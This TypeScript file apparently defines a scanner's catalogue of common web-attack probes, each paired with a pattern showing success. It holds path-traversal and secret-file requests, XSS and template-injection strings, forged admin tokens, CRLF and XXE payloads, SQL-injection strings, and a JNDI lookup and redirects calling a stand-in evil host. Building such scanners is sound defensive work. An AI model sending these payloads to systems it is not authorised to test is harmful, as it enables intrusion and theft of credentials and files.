import type { Severity } from "./finding.ts";

type Headers = Readonly<Record<string, string>>;

export interface KnownRequest {
  readonly what: string;
  readonly severity: Severity;
  readonly method?: string;
  readonly path: string;
  readonly headers?: Headers;
  readonly body?: string;
  /** Statuses by which it would have worked; 2xx unless said. */
  readonly works?: RegExp;
  /** What the answer, head and body, would then have in it; left out: the status says it. */
  readonly shows?: RegExp;
}

const files: readonly (readonly [path: string, shows: RegExp])[] = [
  ["/.env", /^\s*[A-Z_]+=/m],
  ["/.env.production", /^\s*[A-Z_]+=/m],
  ["/pavane.env", /^\s*[A-Z_]+=/m],
  ["/.git/config", /\[core\]/],
  ["/.git/HEAD", /^ref: /m],
  ["/.svn/entries", /^\d+\s*$/m],
  ["/.DS_Store", /Bud1/],
  ["/.npmrc", /registry|_auth/],
  ["/.ssh/id_rsa", /PRIVATE KEY/],
  ["/id_rsa", /PRIVATE KEY/],
  ["/package.json", /"dependencies"/],
  ["/package-lock.json", /"lockfileVersion"/],
  ["/docker-compose.yml", /^services:/m],
  ["/Dockerfile", /^FROM /m],
  ["/data/secret", /./s],
  ["/apps/server/src/main.ts", /import /],
  ["/src/main.ts", /import /],
  ["/node_modules/fastify/package.json", /"name"/],
  ["/build/server/index.js", /import |export /],
  ["/@vite/client", /import |HMRContext/],
  ["/@fs/etc/passwd", /root:.*:0:0/],
  ["/backup.zip", /^PK/],
  ["/backup.sql", /CREATE TABLE|INSERT INTO/i],
  ["/dump.sql", /CREATE TABLE|INSERT INTO/i],
  ["/database.sqlite", /SQLite format/],
  ["/error.log", /\[error\]|"level":50/],
  ["/server.log", /"level":\d+/],
  ["/phpinfo.php", /PHP Version/],
  ["/wp-login.php", /wp-submit/],
  ["/wp-config.php.bak", /DB_PASSWORD/],
  ["/xmlrpc.php", /XML-RPC/],
  ["/administrator/", /joomla/i],
  ["/phpmyadmin/", /phpMyAdmin/],
  ["/server-status", /Apache Server Status/],
  ["/nginx_status", /Active connections/],
  ["/actuator/env", /"propertySources"/],
  ["/actuator/health", /"status":"UP"/],
  ["/debug/pprof/", /goroutine/],
  ["/debug/vars", /cmdline/],
  ["/console", /eval|REPL/],
  ["/metrics", /^# (HELP|TYPE) /m],
  ["/graphql?query={__schema{types{name}}}", /__schema|"types"/],
  ["/graphiql", /graphiql/i],
  ["/swagger-ui.html", /swagger-ui/],
  ["/solr/admin/info/system", /solr/],
  ["/cgi-bin/test.cgi", /./s],
  ["/crossdomain.xml", /cross-domain-policy/],
  ["/clientaccesspolicy.xml", /access-policy/],
  ["/ui", /gallery/i],
];

const traversal: readonly string[] = [
  "/../../../../etc/passwd",
  "/..%2f..%2f..%2f..%2fetc%2fpasswd",
  "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
  "/..%252f..%252f..%252fetc%252fpasswd",
  "/..%c0%af..%c0%afetc/passwd",
  "/..\\..\\..\\..\\etc\\passwd",
  "/assets/../../../../../etc/passwd",
  "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd",
  "/assets/....//....//....//etc/passwd",
  "/uploads/..%2f..%2f..%2f..%2fetc%2fpasswd",
  "/uploads/images/..%2f..%2f..%2fetc%2fpasswd",
  "/media/v/..%2f..%2fetc%2fpasswd",
  "/media/h/1/..%2f..%2f..%2fetc%2fpasswd",
  "/covers/course/..%2f..%2f..%2fetc%2fpasswd",
  "/packages/runtime/..%2f..%2f..%2fetc%2fpasswd",
  "/api/admin/guides/..%2f..%2f..%2fetc%2fpasswd",
  "/etc/passwd%00.png",
];

const evil = "evil-7f3a.example";

const claimed: readonly Headers[] = [
  { host: evil },
  { "x-forwarded-host": evil },
  { "x-host": evil },
  { forwarded: `host=${evil};proto=http` },
  { "x-original-url": `//${evil}/` },
];

const hosts: readonly KnownRequest[] = claimed.flatMap((headers) =>
  ["/", "/courses", "/api/site", "/robots.txt", "/sitemap.xml", "/verify"].map((path) => ({
    what: `a host that is claimed by ${Object.keys(headers).join()} stands in the answer`,
    severity: "medium" as const,
    path,
    headers,
    works: /^[23]/,
    shows: new RegExp(evil),
  })),
);

const openRedirects: readonly KnownRequest[] = [
  `//${evil}/%2f..`,
  `//${evil}`,
  `/\\${evil}`,
  `/%5c${evil}`,
  `/%2f%2f${evil}`,
  `/auth?redirect=https://${evil}`,
  `/auth?redirect=//${evil}`,
  `/courses//${evil}/..`,
  `/api/downloads/x?next=https://${evil}`,
].map((path) => ({
  what: "leads to another site",
  severity: "medium",
  path,
  works: /^3/,
  shows: new RegExp(`^location: *(https?:)?[/\\\\]{2}${evil}`, "im"),
}));

const escaped = (text: string): string => text.replaceAll(/[.*+?^${}()|[\]\\]/g, String.raw`\$&`);

const marker = "q7x9z";
const scripts = [
  `<script>${marker}</script>`,
  `"><img src=x onerror=${marker}>`,
  `");${marker}//`,
  `{{1337*1337}}${marker}`,
];
const reflected: readonly KnownRequest[] = [
  "/courses?q=",
  "/curriculum?q=",
  "/connect?q=",
  "/verify/",
  "/auth?redirect=/",
].flatMap((start) =>
  scripts.map((text) => ({
    what: "what was asked for is written into the page as it came",
    severity: "high" as const,
    path: `${start}${encodeURIComponent(text)}`,
    works: /./,
    // Within a script a quotation mark ends nothing as long as a backslash stands before it.
    shows: text.startsWith("{{")
      ? /1787569/
      : new RegExp((text.startsWith('")') ? String.raw`(?<!\\)` : "") + escaped(text)),
  })),
);

const pretended: readonly Headers[] = [
  { "x-forwarded-for": "127.0.0.1" },
  { "x-real-ip": "127.0.0.1" },
  { "x-in-process": "1" },
  { "x-original-url": "/api/site" },
  { "x-rewrite-url": "/api/site" },
  { "x-http-method-override": "GET" },
  { "x-user-id": "1" },
  { authorization: "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIiwicm9sZSI6IkFETUlOIn0." },
  { authorization: "Bearer null" },
  { authorization: "Basic YWRtaW46YWRtaW4=" },
  { cookie: "access_token=admin; role=ADMIN" },
];

const lifted: readonly KnownRequest[] = pretended.flatMap((headers) =>
  ["/api/admin/users", "/api/admin/settings", "/api/me", "/metrics"].map((path) => ({
    what: `what is not for guests is open by ${Object.keys(headers).join()}`,
    severity: "critical" as const,
    path,
    headers,
  })),
);

const verbs: readonly KnownRequest[] = [
  "TRACE",
  "TRACK",
  "PUT",
  "DELETE",
  "PROPFIND",
  "MOVE",
  "DEBUG",
  "PATCH",
].flatMap((method) =>
  ["/", "/courses", "/scan-x.txt", "/uploads/images/scan-x.png", "/assets/scan-x.js"].map((path) => ({
    what: `${method} is answered`,
    severity: "medium" as const,
    method,
    path,
    headers: { "x-scan": marker },
  })),
);

const others: readonly KnownRequest[] = [
  ...["https://evil-7f3a.example", "null", "http://localhost:1"].flatMap((origin) =>
    ["/api/me", "/api/site", "/api/login"].map((path) => ({
      what: "another site may read what is somebody's",
      severity: "high" as const,
      path,
      headers: { origin },
      works: /./,
      shows: /^access-control-allow-origin:/im,
    })),
  ),
  ...[
    "/%0d%0aset-cookie:scan=1",
    "/courses?q=%0d%0aset-cookie:scan=1",
    "/covers/course/1%0d%0aset-cookie:scan=1.svg",
  ].map((path) => ({
    what: "a line break becomes a header",
    severity: "high" as const,
    path,
    works: /./,
    shows: /^set-cookie: *scan/im,
  })),
  {
    what: "XML is read",
    severity: "high",
    method: "POST",
    path: "/api/login",
    headers: { "content-type": "application/xml" },
    body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    works: /./,
    shows: /root:.*:0:0/,
  },
  {
    what: "a lookup of JNDI is followed, or breaks something",
    severity: "high",
    path: "/api/courses?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil-7f3a.example%2Fa%7D",
    headers: { "user-agent": "${jndi:ldap://evil-7f3a.example/a}" },
    works: /^5/,
  },
  {
    what: "many ranges are all sent",
    severity: "medium",
    path: "/robots.txt",
    headers: { range: `bytes=${Array.from({ length: 500 }, (_, n) => `${n}-`).join(",")}` },
    works: /^206/,
  },
  ...[
    "'",
    "%27%20or%201=1--",
    "1;select%20pg_sleep(5)",
    "%00",
    "%c0%ae",
    "a[]=1",
    "__proto__[x]=1",
    "constructor",
  ].flatMap((text) =>
    ["/api/courses?q=", "/api/courses/", "/api/users/", "/api/verify/", "/api/resources?q=", "/api/search?q="].map(
      (start) => ({
        what: "strange words break something",
        severity: "medium" as const,
        path: start + text,
        works: /^5(?!03)/,
      }),
    ),
  ),
];

/** Requests that every machine on the internet is asked within a day, and by what one would see that they worked. */
export const knownRequests: readonly KnownRequest[] = [
  ...files.map(([path, shows]) => ({
    what: "a file that is nobody's business",
    severity: "high" as const,
    path,
    shows,
  })),
  ...traversal.map((path) => ({
    what: "a path leads out of its folder",
    severity: "critical" as const,
    path,
    shows: /root:.*:0:0/,
  })),
  ...hosts,
  ...openRedirects,
  ...reflected,
  ...lifted,
  ...verbs,
  ...others,
];
